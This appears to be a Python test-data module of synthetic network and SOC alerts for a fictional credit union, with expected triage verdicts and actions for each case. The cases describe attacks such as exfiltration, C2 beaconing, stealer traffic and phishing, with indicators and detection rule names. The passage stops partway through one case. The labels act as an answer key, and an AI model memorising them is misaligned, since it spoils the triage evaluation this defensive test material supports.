"""Coverage split: network security and operations monitoring at Marlowe Credit Union (see README.md).

Tools: firewalls and routers (Juniper SRX structured syslog, pfSense with pfBlockerNG and dpinger, OPNsense
OpenVPN logs, MikroTik RouterOS syslog), network access control (Aruba ClearPass Policy Manager), network detection
(Corelight notices, Stamus Security Platform declarations, Security Onion alerts and grid health, ntopng flow
alerts), OT and building systems (Nozomi Networks Guardian, Claroty xDome) and operations monitoring
(VictoriaMetrics vmalert, Zenoss Cloud, Coralogix, Logz.io, OpsRamp, ScienceLogic SL1, Chronosphere, Sematext
Cloud, AWS X-Ray Insights, Freshping, HetrixTools). Voices: the tools' own payloads (four as raw_data only, from a
syslog or webhook relay), NOC and SOC notes (terse, rambling, typos), a developer's chat, branch staff writing in
Estonian, Icelandic, Afrikaans and Québec French, reporters naming the wrong thing (an expired VPN certificate
called a hack, a blocklisting called a virus, a flood called a crash). All seven playbooks: generic 14, brute
force 8, availability 9, performance 9, malware 6, data exfiltration 6, phishing 3; 17 malicious, 17 suspicious,
17 benign, 4 unknown. Many come in pairs one stated fact apart (a VPN login the user confirms vs one he denies, a
contractor's BACnet writes with a work order vs a vendor account's writes at 03:00 with none, a bulk statement
pull by the regulator export vs by a member account made yesterday).
"""

from __future__ import annotations

from typing import Any

from tests.data.triage.expansion_common import (
    AVAIL,
    BEN,
    BRUTE,
    EXFIL,
    GENERIC,
    MAL,
    MALWARE,
    PERF,
    PHISHING,
    SUS,
    UNK,
    Expected,
    alert,
)
from tests.data.triage.labels import Case

Raw = dict[str, Any]
PAGE = ["notify"]
NODES = ("node-health", 11873302)


def cid(n: int) -> str:
    return f"cov-no-{n:03d}"


# --- network: firewalls, NAC, NDR, OT -------------------------------------------------------------------------


def srx(
    n: int, expected: Expected, severity: str, title: str | None, description: str | None, tag: str, sd: Raw,
    *, host: str = "MCU-HBA-FW01", kind: str | None = None,
) -> Case:  # fmt: skip
    """Junos structured syslog (RT_FLOW, RT_SCREEN, KMD) as the SIEM relay posts one event."""
    pairs = " ".join(f'{key}="{value}"' for key, value in sd.items())
    raw = {
        "hostname": host,
        "appname": "_".join(tag.split("_")[:2]) if tag.startswith("RT_") else "kmd",
        "msgid": tag,
        "structured-data": sd,
        "message": f"{tag} [junos@2636.1.1.1.2.129 {pairs}]",
    }
    return alert(
        cid(n), "Juniper SRX (Junos syslog)", expected, title, description, severity, "juniper_srx", raw,
        systems=[host], tags=["firewall", "junos"], kind=kind,
    )  # fmt: skip


def clearpass(
    n: int, expected: Expected, severity: str, title: str, description: str, fields: Raw, *, kind: str | None = None
) -> Case:
    raw = {"Source": "MCU-HBA-CPPM01", "Common.Request-Timestamp": fields.pop("ts"), **fields}
    return alert(
        cid(n), "Aruba ClearPass Policy Manager", expected, title, description, severity, "clearpass", raw,
        tags=["nac"], kind=kind,
    )  # fmt: skip


def corelight(
    n: int, expected: Expected, severity: str, title: str, description: str, ts: str, note: str, msg: str,
    orig: tuple[str, str], resp: str, *, kind: str | None = None, **extra: Any,
) -> Case:  # fmt: skip
    raw = {
        "_path": "notice", "_system_name": "mcu-hba-cl01", "ts": ts, "uid": f"CmQ4{n:02d}x3VbTq9hR1kd",
        "id.orig_h": orig[1], "id.resp_h": resp, "note": note, "msg": msg, "src": orig[1], "dst": resp,
        "actions": ["Notice::ACTION_LOG"], "suppress_for": 3600.0, **extra,
    }  # fmt: skip
    return alert(
        cid(n), "Corelight", expected, title, description, severity, "corelight", raw, systems=[orig[0]], kind=kind
    )


def stamus(
    n: int, expected: Expected, severity: str, title: str, description: str, threat: Raw, asset: tuple[str, str],
    offender: str, *, kind: str | None = None, **extra: Any,
) -> Case:  # fmt: skip
    raw = {
        "event_type": "stamus",
        "timestamp": threat.pop("first_seen"),
        "host": "mcu-ssp-probe02",
        "stamus": {
            "source": "declaration_of_compromise", "asset": asset[1], "asset_name": asset[0], "offender": offender,
            "tenant": "marlowecu", **threat,
        },
        **extra,
    }  # fmt: skip
    return alert(
        cid(n), "Stamus Security Platform", expected, title, description, severity, "stamus", raw,
        systems=[asset[0]], tags=["ndr", "doc"], kind=kind,
    )  # fmt: skip


def onion(
    n: int, expected: Expected, severity: str, title: str | None, description: str | None, raw: Raw,
    *, kind: str | None = None,
) -> Case:  # fmt: skip
    return alert(cid(n), "Security Onion", expected, title, description, severity, "securityonion", raw, kind=kind)


def so_alert(sensor: str, ts: str, sid: int, name: str, label: str, src: str, dst: str, port: int, **extra: Any) -> Raw:
    """A Security Onion 2.4 Suricata alert document, as the SOC's webhook relay sends it."""
    return {
        "@timestamp": ts,
        "observer": {"name": sensor},
        "event": {"module": "suricata", "dataset": "alert", "severity_label": label},
        "rule": {"name": name, "uuid": str(sid), "gid": 1, "rev": 3},
        "source": {"ip": src},
        "destination": {"ip": dst, "port": port},
        **extra,
    }


def ntopng(
    n: int, expected: Expected, severity: str, title: str, description: str, alert_name: str, flow: Raw,
    *, kind: str | None = None,
) -> Case:  # fmt: skip
    raw = {
        "ifid": 2, "ifname": "eno2 (span-core)", "alert_name": alert_name, "entity_val": flow["cli_ip"],
        "severity": {"critical": "error", "high": "error", "medium": "warning"}.get(severity, "notice"),
        "score": {"critical": 250, "high": 150, "medium": 100}.get(severity, 50), "flow": flow,
        "url": f"https://ntopng.mcu.local:3000/lua/alert_stats.lua?page=flow&alert_id={3301 + n}",
    }  # fmt: skip
    return alert(cid(n), "ntopng", expected, title, description, severity, "ntopng", raw, kind=kind, tags=["ndr"])


def pfsense(
    n: int, expected: Expected, severity: str, title: str, description: str, host: str, lines: list[str],
    *, kind: str | None = None, **extra: Any,
) -> Case:  # fmt: skip
    raw = {"hostname": host, "version": "2.7.2-RELEASE", "log": lines, **extra}
    return alert(cid(n), "pfSense", expected, title, description, severity, "pfsense", raw, systems=[host], kind=kind)


def opnsense(
    n: int, expected: Expected, severity: str, title: str, description: str, lines: list[str], **extra: Any
) -> Case:
    raw = {"host": "MCU-REK-FW01", "product": "OPNsense 24.7.9", "facility": "openvpn", "lines": lines, **extra}
    return alert(
        cid(n), "OPNsense", expected, title, description, severity, "opnsense", raw,
        systems=["MCU-REK-FW01"], tags=["vpn"],
    )  # fmt: skip


def nozomi(n: int, expected: Expected, severity: str, title: str | None, description: str | None, raw: Raw) -> Case:
    body = {"appliance_host": "mcu-hba-guardian01", **raw} if raw else {}
    return alert(cid(n), "Nozomi Networks Guardian", expected, title, description, severity, "nozomi", body,
                 tags=["ot"] if raw else [])  # fmt: skip


def claroty(
    n: int, expected: Expected, severity: str, title: str, description: str, raw: Raw, systems: list[str]
) -> Case:
    body = {"site_name": raw.pop("site"), "status": "Unresolved", "source": "xDome", **raw}
    return alert(
        cid(n), "Claroty xDome", expected, title, description, severity, "claroty", body, systems=systems,
        tags=["ot", "building-systems"],
    )  # fmt: skip


def mikrotik(
    n: int, expected: Expected, severity: str, title: str | None, description: str | None, router: str,
    lines: list[str],
) -> Case:  # fmt: skip
    raw = {"router": router, "routeros": "6.40.4 (bugfix)", "topics": "system,error,critical,info", "lines": lines}
    return alert(cid(n), "MikroTik RouterOS", expected, title, description, severity, "mikrotik", raw,
                 systems=[router] if title else [])  # fmt: skip


# --- operations monitoring ------------------------------------------------------------------------------------


def vmalert(
    n: int, expected: Expected, severity: str, title: str | None, description: str | None, alerts: list[Raw],
    *, kind: str | None = None,
) -> Case:  # fmt: skip
    """vmalert fires through Alertmanager; the webhook body is Alertmanager's version 4."""
    raw = {
        "receiver": "mcu-incidents", "status": "firing" if alerts else "", "alerts": alerts,
        "groupLabels": {"alertname": alerts[0]["labels"]["alertname"]} if alerts else {},
        "externalURL": "http://vmalertmanager.monitoring:9093", "version": "4",
    }  # fmt: skip
    return alert(cid(n), "VictoriaMetrics vmalert", expected, title, description, severity, "vmalert", raw, kind=kind)


def vm_alert(name: str, group: tuple[str, int], labels: Raw, summary: str, starts: str, value: str) -> Raw:
    return {
        "status": "firing",
        "labels": {"alertname": name, "alertgroup": group[0], **labels},
        "annotations": {"summary": summary, "value": value},
        "startsAt": starts,
        "generatorURL": f"http://vmalert.monitoring:8880/vmalert/alert?group_id={group[1]}&alert_id={group[1] + 7}",
    }


def zenoss(n: int, expected: Expected, severity: str, title: str | None, description: str | None, raw: Raw) -> Case:
    event = {"eventState": "New", "prodState": "Production", "agent": "zenping", "monitor": "mcu-collector-1", **raw}
    return alert(cid(n), "Zenoss Cloud", expected, title, description, severity, "zenoss", event,
                 systems=[raw["device"]] if raw.get("device") else [])  # fmt: skip


def coralogix(
    n: int, expected: Expected, severity: str, title: str, description: str, app: tuple[str, str], raw: Raw,
    *, kind: str | None = None,
) -> Case:  # fmt: skip
    body = {
        "alert_name": title, "alert_severity": severity.capitalize(), "alert_action": "trigger",
        "application": app[0], "subsystem": app[1], "team": "marlowecu-prod",
        "alert_url": f"https://marlowecu.app.coralogix.com/#/insights?id=7c1e{n:04d}-alert", **raw,
    }  # fmt: skip
    return alert(cid(n), "Coralogix", expected, title, description, severity, "coralogix", body,
                 systems=[app[0]], kind=kind)  # fmt: skip


def logzio(
    n: int, expected: Expected, severity: str, title: str, description: str | None, level: str, raw: Raw,
    *, kind: str | None = None,
) -> Case:  # fmt: skip
    body = {"alert_title": title, "alert_severity": level, "account_name": "marlowecu-prod", **raw}
    return alert(cid(n), "Logz.io", expected, title, description, severity, "logzio", body, kind=kind)


def opsramp(
    n: int, expected: Expected, severity: str, title: str, description: str, state: str, raw: Raw,
    *, kind: str | None = None,
) -> Case:  # fmt: skip
    body = {
        "id": f"MCU-ALRT-{88120 + n}", "subject": title, "currentState": state, "alertType": "Monitoring",
        "client": {"name": "Marlowe Credit Union", "uniqueId": "client_51872"}, **raw,
    }  # fmt: skip
    resource = raw.get("resource", {}).get("name")
    return alert(cid(n), "OpsRamp", expected, title, description, severity, "opsramp", body,
                 systems=[resource] if resource else [], kind=kind)  # fmt: skip


def sl1(
    n: int, expected: Expected, severity: str, title: str, description: str, device: str, level: str, raw: Raw
) -> Case:
    body = {
        "event_id": 4410230 + n, "message": title, "severity": level, "device_name": device,
        "organization": "Marlowe CU - Network", "aligned_resource": f"/device/{1400 + n}", **raw,
    }  # fmt: skip
    return alert(cid(n), "ScienceLogic SL1", expected, title, description, severity, "sciencelogic", body,
                 systems=[device], kind="performance")  # fmt: skip


def chronosphere(n: int, expected: Expected, severity: str, title: str, description: str, raw: Raw) -> Case:
    body = {"status": "firing", "severity": severity, "notification_policy": "mcu-digital-oncall", **raw}
    return alert(cid(n), "Chronosphere", expected, title, description, severity, "chronosphere", body,
                 tags=["slo"] if "slo" in raw else [])  # fmt: skip


def sematext(
    n: int, expected: Expected, severity: str, title: str, description: str, app: str, raw: Raw,
    *, kind: str | None = None,
) -> Case:  # fmt: skip
    body = {"appName": app, "ruleName": title, "backToNormal": False,
            "url": f"https://apps.sematext.com/ui/alerts/{52000 + n}", **raw}  # fmt: skip
    return alert(cid(n), "Sematext Cloud", expected, title, description, severity, "sematext", body, kind=kind)


def xray(n: int, expected: Expected, severity: str, title: str, description: str, detail: Raw) -> Case:
    raw = {
        "version": "0", "id": f"6f1c2a9e-4b7d-4e0a-9c3f-1d5b8e2a7c{n:02d}", "detail-type": "AWS X-Ray Insight",
        "source": "aws.xray", "account": "418273645509", "region": "ap-southeast-2",
        "detail": {"GroupName": "Default", "State": "ACTIVE", **detail},
    }  # fmt: skip
    return alert(cid(n), "AWS X-Ray Insights", expected, title, description, severity, "aws_xray", raw,
                 tags=["aws", "tracing"])  # fmt: skip


def freshping(n: int, expected: Expected, severity: str, title: str, description: str | None, raw: Raw) -> Case:
    return alert(cid(n), "Freshping", expected, title, description, severity, "freshping", raw)


def hetrix(
    n: int, expected: Expected, severity: str, title: str, description: str, target: str, lists: list[tuple[str, str]]
) -> Case:
    raw = {
        "monitor_id": f"7a3e91c0d4b2{n:02d}", "monitor_name": title.split(" listed")[0], "monitor_target": target,
        "monitor_type": "ipv4", "blacklisted_before": 0, "blacklisted_now": len(lists),
        "blacklisted_on": [{"rbl": rbl, "delist": delist} for rbl, delist in lists],
        "links": {"report_link": f"https://hetrixtools.com/report/blacklist/7a3e91c0d4b2{n:02d}/"},
    }  # fmt: skip
    return alert(cid(n), "HetrixTools", expected, title, description, severity, "hetrixtools", raw,
                 tags=["blacklist"])  # fmt: skip


# The case lists are laid out by hand (one helper call's short arguments on a line) to keep the module short.
# fmt: off
FIREWALL_NAC = [
    srx(
        1, (MAL, AVAIL, ["block_ip"]), "critical",
        "Members can't log in to online banking - SYN flood on the banking address",
        "NOC: banking.marlowecu.org unreachable for most members 14:02-14:41 AEDT. The SRX screen counted ~310k SYN/s "
        "at 103.252.118.20:443 from four addresses (176.111.174.80, 176.111.174.91, 80.66.88.212, 91.92.251.43); the "
        "session table filled and real logins timed out. Screen threshold lowered, still coming in waves. (The "
        "contact centre logged it as 'banking server crashed again'.)",
        "RT_SCREEN_TCP",
        {"attack-name": "SYN flood!", "source-address": "176.111.174.80", "source-port": "40211",
         "destination-address": "103.252.118.20", "destination-port": "443", "source-zone-name": "untrust",
         "interface-name": "reth1.0", "action": "drop"},
        kind="availability",
    ),
    srx(
        2, (BEN, AVAIL, PAGE), "high",
        "VPN vpn-tll-branch is down (MCU-TLL IPsec)",
        "Tallinna kontoris ei tööta alates 09:10 mitte midagi, kassad ka mitte. -- Kadri Tamm, branch manager.\n"
        "NOC: tunnel to Tallinn dropped at 09:08; the branch router does not answer on its public address either. "
        "Telia confirms a fibre cut from roadworks on Pärnu mnt, ETA 13:00. Card terminals switched to 4G.",
        "KMD_VPN_DOWN_ALERT",
        {"peer-address": "90.190.44.18", "gateway-name": "gw-tll-branch", "vpn-name": "vpn-tll-branch",
         "tunnel-id": "131077", "local-if": "st0.5", "reason": "DPD peer dead"},
        kind="availability",
    ),
    srx(
        3, (MAL, EXFIL, ["isolate_host", "block_ip"]), "critical",
        "61 GB out of MCU-CPT-FS01 to a Vultr address overnight",
        "Session closes show the Cape Town file server (10.42.10.15) sending 61 GB to 149.28.212.77:443 between "
        "23:10 and 03:17 SAST. At 22:58 a local administrator 'svc_bkp2' that nobody created appeared on the server, "
        "and rclone.exe with a config for an S3-style remote was found in C:\\PerfLogs. The share holds members' "
        "loan files and ID scans.",
        "RT_FLOW_SESSION_CLOSE",
        {"reason": "TCP FIN", "source-address": "10.42.10.15", "source-port": "50412",
         "destination-address": "149.28.212.77", "destination-port": "443", "service-name": "junos-https",
         "nat-source-address": "102.165.31.9", "policy-name": "CPT-Servers-Out", "source-zone-name": "trust",
         "destination-zone-name": "untrust", "bytes-from-client": "65498112000", "bytes-from-server": "412880311",
         "elapsed-time": "14820", "application": "SSL", "nested-application": "UNKNOWN"},
        host="MCU-CPT-FW01", kind="data_exfiltration",
    ),
    clearpass(
        4, (SUS, GENERIC, PAGE), "medium",
        "Endpoint profile changed: 00:1b:a9:4c:22:e1 Printer -> Windows (MCU-CPT)",
        "The Brother MFP's MAC on Cape Town switch port Gi1/0/17 now profiles as a Windows 10 computer (DHCP "
        "fingerprint and hostname DESKTOP-7TQ2HVA). MAC auth still passed because that MAC is on the printer list, so "
        "it got the Printers role with access to the print server VLAN. Branch says the printer is on the wall but "
        "shows offline. Nobody has looked at what is plugged into 17 yet.",
        {"ts": "2027-03-04 11:26:40+02", "Common.Username": "001ba94c22e1", "Common.Service": "MCU Wired MAB",
         "Endpoint.Previous-Category": "Printer", "Endpoint.Category": "Computer", "Endpoint.OS-Family": "Windows",
         "Common.Roles": ["[Printers]"], "Common.NAS-IP-Address": "10.42.0.3", "Radius.NAS-Port-Id": "Gi1/0/17"},
    ),
    clearpass(
        5, (BEN, GENERIC, []), "low",
        "Endpoint profile changed: 00:07:4d:91:0e:35 Printer -> Linux (MCU-WLG)",
        "checked - it is the Zebra label printer at the Wellington teller line, physically looked at it with Aroha. "
        "Facilities updated its firmware yesterday (FAC-1182) and the new DHCP fingerprint looks like generic Linux "
        "to the profiler. same MAC, same port, nothing else on it. closing",
        {"ts": "2027-03-05 08:02:11+13", "Common.Username": "00074d910e35", "Common.Service": "MCU Wired MAB",
         "Endpoint.Previous-Category": "Printer", "Endpoint.Category": "Linux", "Common.Roles": ["[Printers]"],
         "Common.NAS-IP-Address": "10.41.0.3", "Radius.NAS-Port-Id": "Gi1/0/9"},
    ),
    clearpass(
        6, (MAL, BRUTE, ["disable_user", "reset_credentials"]), "high",
        "MCU-Staff: 222 failed PEAP logins for 74 users from one client, then an accept for j.tremblay",
        "Access Tracker: from 18:55 one client (randomised MAC 3a:f1:0c:77:d2:19) on YUL-AP-LOBBY-02 tried 74 "
        "staff usernames three times each on the MCU-Staff SSID; at 19:42, after the branch had closed, j.tremblay "
        "was accepted. Julien Tremblay is on holiday in Cuba, his manager confirms.\n"
        "Note de Geneviève Roy (succursale Montréal) : il y avait un char stationné devant la succursale avec "
        "quelqu'un dedans avec un laptop, de 18h30 à 20h passées. On a pris la plaque.",
        {"ts": "2027-03-06 19:42:07-05", "Common.Username": "j.tremblay", "Common.Service": "MCU Staff 802.1X",
         "Common.Login-Status": "ACCEPT", "Common.Auth-Type": "EAP-PEAP/EAP-MSCHAPv2",
         "Radius.Calling-Station-Id": "3a-f1-0c-77-d2-19", "Radius.Called-Station-Id": "YUL-AP-LOBBY-02:MCU-Staff",
         "failed_before_accept": 222, "distinct_usernames": 74, "Common.Error-Code": 216,
         "Common.Alerts": "MSCHAP: AD status:Logon failure (0xc000006d)"},
        kind="brute_force",
    ),
]

NDR = [
    corelight(
        7, (MAL, MALWARE, ["isolate_host", "block_ip"]), "critical",
        "MCU-YUL-WS0142 beaconing to 45.146.165.37 every ~60 s",
        "Since 10:17 EST MCU-YUL-WS0142 (member services, Montréal) has asked 45.146.165.37 "
        "for GET /jquery-3.3.1.min.js every 56-66 s with a base64 cookie; the 5.5 KB answers start "
        "with a jQuery licence comment and are random bytes after it. TLS client fingerprint matches a Cobalt "
        "Strike default. It began twelve minutes after the user opened 'Relevé_mars.one' from an e-mail.",
        "2027-03-03T15:29:41.118Z", "C2::Beacon_Detected",
        "10.45.3.42 beacons to 45.146.165.37:80 (interval 60.4s, jitter 9%, 412 connections)",
        ("MCU-YUL-WS0142", "10.45.3.42"), "45.146.165.37",
        ja3="72a589da586844d7f0818ce684948eea", kind="malware",
    ),
    corelight(
        8, (SUS, EXFIL, PAGE), "medium",
        "Possible DNS tunnel from MCU-REK-APP03",
        "18,400 TXT and NULL queries in two hours under t.cdn-sync-metrics.net, average name length 182 "
        "characters, roughly 40 MB worth of encoded labels going out. The domain was registered nine days ago. The "
        "host runs the ATM-monitoring vendor's agent; we have asked the vendor whether the name is theirs and have "
        "no answer. No other odd traffic from the box.",
        "2027-03-09T02:40:00.000Z", "DNS_Tunnels::Tunneling_Suspected",
        "10.43.10.23 sent 18412 long queries to t.cdn-sync-metrics.net", ("MCU-REK-APP03", "10.43.10.23"),
        "10.43.0.10", qtypes=["TXT", "NULL"], avg_qname_len=182,
    ),
    corelight(
        9, (BEN, BRUTE, []), "low",
        "SSH::Password_Guessing 10.40.10.5",
        "ansible ctl node. tuesdays key rotation left the old vault pw in inventory for the 30 linux boxes so it "
        "fell back to password auth and failed on all of them. CHG-4471, fixed 10:20. ignore",
        "2027-03-09T23:02:17.550Z", "SSH::Password_Guessing",
        "10.40.10.5 appears to be guessing SSH passwords (seen in 30 connections).", ("MCU-HBA-ANS01", "10.40.10.5"),
        "10.40.10.0/24", sub="Sampled servers: 10.40.10.21, 10.40.10.22, 10.40.10.31, 10.40.10.44",
    ),
    stamus(
        10, (MAL, PHISHING, ["quarantine_email", "block_sender", "reset_credentials"]), "high",
        "Staff credentials posted to a fake Marlowe webmail page",
        "Three Wellington PCs sent HTTP POSTs with username and password fields to "
        "marlowecu-memberverify[.]com/owa/auth.owa between 08:41 and 09:03 (the kit serves plain HTTP, so the probe "
        "saw the form fields: a.ngata, t.whaanga, r.parata). All three had clicked 'Mailbox quota exceeded - verify "
        "within 24h' from it-support@marlowecu-helpdesk.com, which went to 58 mailboxes this morning.",
        {"threat_name": "Credential Phishing", "threat_id": 1104, "family": "Phishing Kit",
         "kill_chain": "delivery", "method": "HTTP form submission to lookalike domain",
         "first_seen": "2027-03-10T19:41:55Z", "assets_count": 3},
        ("MCU-WLG-WS0087", "10.41.3.87"), "185.243.112.60", kind="phishing",
        http={"hostname": "marlowecu-memberverify.com", "url": "/owa/auth.owa", "http_method": "POST",
              "form_fields": ["username", "password", "destination"]},
    ),
    stamus(
        11, (SUS, GENERIC, PAGE), "medium",
        "Remote command execution over SMB from a helpdesk PC at 02:10",
        "MCU-WLG-HD07 ran commands on MCU-HBA-DC01, MCU-HBA-FS01 and MCU-HBA-SQL02 through DCOM/WMI with the output "
        "written to ADMIN$\\__1804770634.23, the pattern impacket's wmiexec leaves. Account mcu\\svc_helpdesk, "
        "which the helpdesk's scripts use, normally only in business hours. Tāne Whaanga (that PC's owner) is off "
        "shift and hasn't answered; nothing else from the PC tonight.",
        {"threat_name": "Lateral Movement", "threat_id": 2208, "family": "Remote Execution",
         "kill_chain": "lateral_movement", "method": "WMI exec with ADMIN$ output file",
         "first_seen": "2027-03-11T13:10:34Z"},
        ("MCU-WLG-HD07", "10.41.8.17"), "10.41.8.17", smb={"share": "\\\\*\\ADMIN$", "user": "svc_helpdesk"},
    ),
    onion(
        12, (BEN, MALWARE, []), "low",
        "ET POLICY PsExec service created - 40 teller PCs",
        "That's me (Hamish, netops) - pushing the new receipt printer driver to the Hobart and Wellington teller PCs "
        "with PsExec from the admin jump host MCU-HBA-JMP01, CHG-4502, 18:00-20:00 window. Source is the jump host "
        "only, service name PSEXESVC, binary from the usual share. Close it.",
        so_alert("MCU-HBA-SO01", "2027-03-04T07:12:09.331Z", 2023033, "ET POLICY PsExec service created", "medium",
                 "10.40.10.9", "10.40.21.14", 445, case={"status": "closed", "assignee": "h.doyle"}),
    ),
    onion(
        13, (MAL, MALWARE, ["isolate_host", "block_ip", "reset_credentials"]), "high",
        "Stealer check-in from MCU-HBA-WS0233 after a fake Chrome update",
        "At 10:41 b.calloway's PC (member services, Hobart) downloaded ChromeSetup_v123.zip from a 'browser out of "
        "date' overlay on a compromised news site. From 10:43 it POSTed multipart data to explorerplay[.]shop "
        "(194.169.175.128) three times; Suricata matched a stealer check-in. Her browser holds saved logins for the "
        "card-management portal and the insurer's broker site.",
        so_alert("MCU-HBA-SO01", "2027-03-05T23:43:12.004Z", 2049836,
                 "ET MALWARE Win32/Lumma Stealer Related CnC Activity (POST)", "high", "10.40.20.233",
                 "194.169.175.128", 443, http={"hostname": "explorerplay.shop", "url": "/api", "method": "POST"}),
        kind="malware",
    ),
    onion(
        14, (BEN, PERF, PAGE), "medium", None, None,
        {"grid": "mcu-so-grid", "node": "MCU-WLG-SO02", "role": "sensor", "status": "Fault", "eps": 41200,
         "zeek_loss_pct": 38.2, "suricata_loss_pct": 41.0, "cpu_pct": 99, "capture_iface": "bond0 (10G span)",
         "note": "packet loss since the WLG uplink went 1G->10G on Fri; sensor is the old 4-core box sized for 1G"},
    ),
    ntopng(
        15, (SUS, GENERIC, PAGE), "medium",
        "Remote Access: AnyDesk session from teller PC MCU-CPT-TL04 (47 min)",
        "AnyDesk from a teller workstation at Cape Town to relay 185.229.191.44, 47 minutes, 220 MB from the remote "
        "side into the PC. No helpdesk ticket - our helpdesk uses the licensed namespace, this is a free client. "
        "Thandiwe Mokoena (teller) is at lunch.\nBranch manager: 'Sy het gesê iemand van die bank se IT het gebel "
        "oor haar rekenaar. Ek weet nie wie dit was nie.'",
        "Remote Access",
        {"cli_ip": "10.42.2.14", "cli_name": "MCU-CPT-TL04", "srv_ip": "185.229.191.44", "srv_port": 443,
         "l7_proto": "AnyDesk", "duration": 2820, "bytes_rcvd": 230686720, "flow_risk": ["Desktop/File Sharing"]},
    ),
    ntopng(
        16, (BEN, GENERIC, []), "low",
        "Remote Access: AnyDesk session from MCU-REK-TL02",
        "Þetta var ég - Gunnar, þjónustuborð. Remote support for the new teller's cheque scanner, INC-20931, with "
        "the helpdesk's licensed AnyDesk (namespace marlowecu). 25 minutes, then closed.",
        "Remote Access",
        {"cli_ip": "10.43.2.12", "cli_name": "MCU-REK-TL02", "srv_ip": "195.181.174.176", "srv_port": 443,
         "l7_proto": "AnyDesk", "duration": 1510, "anydesk_alias": "mcu-helpdesk-03@marlowecu"},
    ),
    ntopng(
        17, (SUS, EXFIL, PAGE), "medium",
        "Elephant flow: MCU-HBA-FS02 -> 45.11.37.14 (41.7 GB)",
        "Hobart file server pushed 41.7 GB to a Backblaze B2 address between 01:58 and 04:40. Our backups go to "
        "Wasabi through Veeam, not Backblaze. Priya thinks the document-imaging vendor's trial might sync to B2 but "
        "nobody can find a change for it; the vendor is asleep (US time).",
        "Elephant Flow",
        {"cli_ip": "10.40.10.42", "cli_name": "MCU-HBA-FS02", "srv_ip": "45.11.37.14", "srv_port": 443,
         "srv_name": "s3.us-west-004.backblazeb2.com", "l7_proto": "TLS", "bytes_sent": 44775415808,
         "elephant_l2r_threshold": 1073741824},
        kind="data_exfiltration",
    ),
    pfsense(
        18, (SUS, BRUTE, PAGE), "medium",
        "OpenVPN: 23 failed logins for r.ashby, account locked",
        "Rowan Ashby (loans, Hobart) failed 23 times from 49.180.12.77 (Telstra mobile, Tasmania) between 21:02 "
        "and 21:40, then the AD lockout kicked in. No success. Rowan is on leave this week and hasn't picked up; "
        "could be him fat-fingering on a phone, could be someone who has his username.",
        "MCU-HBA-FW02",
        ["Mar 7 21:02:13 MCU-HBA-FW02 openvpn[48211]: 49.180.12.77:51022 TLS Auth Error: Auth Username/Password "
         "verification failed for peer", "Mar 7 21:40:02 MCU-HBA-FW02 openvpn[48211]: user 'r.ashby' could not "
         "authenticate."],
        server="ovpns1 (Staff VPN)", failures=23,
    ),
    pfsense(
        19, (SUS, PHISHING, PAGE), "medium",
        "pfBlockerNG DNSBL: marlowe-cu-verify.com blocked for 4 Wellington PCs",
        "Four staff PCs in Wellington asked for marlowe-cu-verify[.]com between 08:52 and 09:07 and got the DNSBL "
        "sinkhole (feed Phishing_Army), so nothing loaded. Nobody has reported an e-mail and a quick search of the "
        "mail quarantine found nothing yet - maybe a text message opened on a PC, maybe a link in Teams.",
        "MCU-WLG-FW01",
        ["DNSBL-python,Mar 10 08:52:41,marlowe-cu-verify.com,10.41.3.22,Python,DNSBL_Type,marlowe-cu-verify.com,"
         "DNSBL_Phishing_Army,Phishing_Army,-,+"],
        hosts=["10.41.3.22", "10.41.3.35", "10.41.3.61", "10.41.4.12"], kind="phishing",
    ),
    pfsense(
        20, (SUS, PERF, PAGE), "medium",
        "Gateway alarm WAN_DHCP (MCU-HBA-BR1): latency 482 ms, loss 21%",
        "Hobart Elizabeth St branch says everything is crawling since 09:30. ISP says the line is fine. The WAN "
        "graph shows the uplink 95% full outbound, 92% of it from 10.40.31.33 (MCU-HBA-LN03, a loans officer's "
        "laptop rebuilt on Monday) to 38.180.2.91:443, which the proxy categorises as file sharing. Could be a "
        "first cloud sync after the rebuild, but that address isn't Microsoft. Laptop owner not asked yet.",
        "MCU-HBA-BR1",
        ["dpinger[9127]: WAN_DHCP 100.72.0.1: Alarm latency 482113us stddev 91022us loss 21%"],
        top_talker={"ip": "10.40.31.33", "dst": "38.180.2.91", "share_pct": 92}, kind="performance",
    ),
    opnsense(
        21, (BEN, AVAIL, PAGE), "high",
        "VPN HACKED?? Enginn kemst inn / nobody in Reykjavik can connect",
        "From Sigríður Jónsdóttir: Er VPN-ið hakkað?? since this morning the VPN says certificate error and nobody "
        "working from home can get in, pls check asap!!\n"
        "Netops: not a hack. The server certificate on the Reykjavik OPNsense (CN=vpn-rek.marlowecu.org) ran out at "
        "00:00 UTC; the renewal reminder went to a mailbox nobody reads. New cert being issued.",
        ["openvpn[71204]: 157.157.81.14:50122 TLS Error: TLS handshake failed",
         "openvpn[71204]: 157.157.81.14:50122 client reports: certificate verify failed (certificate has expired)"],
        certificate={"cn": "vpn-rek.marlowecu.org", "not_after": "2027-03-08T00:00:00Z"},
    ),
    opnsense(
        22, (BEN, BRUTE, []), "low",
        "OpenVPN: k.tamm 7 failures then success from Portugal",
        "Rang Kadri: she's at the card-schemes conference in Lisbon, new laptop with a Portuguese keyboard, kept "
        "typing the password with the wrong layout. Confirmed the 10:14 login was her. Nothing to do.",
        ["openvpn[71204]: 85.138.211.40:40112 TLS Auth Error: Auth Username/Password verification failed for peer",
         "openvpn[71204]: k.tamm/85.138.211.40:40190 MULTI_sva: pool returned IPv4=10.43.250.14"],
        failures=7, country="PT",
    ),
    opnsense(
        23, (MAL, BRUTE, ["disable_user", "reset_credentials", "block_ip"]), "high",
        "OpenVPN: m.kask 9 failures then success from 194.26.192.71",
        "Nine failures and a login at 03:12 for Mart Kask (Tallinn, loans) from a Dutch hosting address. The "
        "session listed \\\\MCU-TLL-FS01\\Laenud and started copying folders. Mart on the phone: 'Ei olnud mina. Ma "
        "magasin, telefon oli öökapil.' - it wasn't him, he was asleep in Tartu.",
        ["openvpn[71204]: 194.26.192.71:61002 TLS Auth Error: Auth Username/Password verification failed for peer",
         "openvpn[71204]: m.kask/194.26.192.71:61044 MULTI_sva: pool returned IPv4=10.43.250.31"],
        failures=9, country="NL",
    ),
]

OT_ROUTERS = [
    nozomi(
        24, (BEN, GENERIC, []), "low",
        "New node 10.40.250.77 writing BACnet properties to BMS controllers",
        "Derwent Mechanical (HVAC contractor) on site for the quarterly tuning, work order WO-2291; badge log has "
        "their tech in the plant room 09:05-12:40 and the setpoint changes match the tuning plan. The laptop is "
        "theirs. Learned as a known engineering workstation for the visit.",
        {"id": "5d0c6e1a-44b1-4a43-9b0e-2f7f0e1c9a31", "type_id": "VI:NEW-NODE", "name": "New node",
